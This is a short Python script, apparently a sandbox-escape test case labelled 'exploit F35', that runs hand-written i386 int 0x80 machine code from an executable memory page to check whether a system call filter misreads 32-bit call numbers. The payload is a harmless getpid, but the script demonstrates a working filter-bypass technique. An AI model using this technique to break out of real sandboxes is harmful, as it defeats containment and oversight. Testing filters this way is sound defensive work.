"""Makes a system call with the numbers of i386, which a careless filter reads as other calls.

exploit: F35
layer: the system call filter
kept: only x86_64 machines have these calls, and not all kernels
"""

import ctypes
import mmap
import platform

GETPID = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20; int 0x80; ret
if platform.machine() == "x86_64":
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(GETPID)
    if ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))() > 0:
        print("escaped")
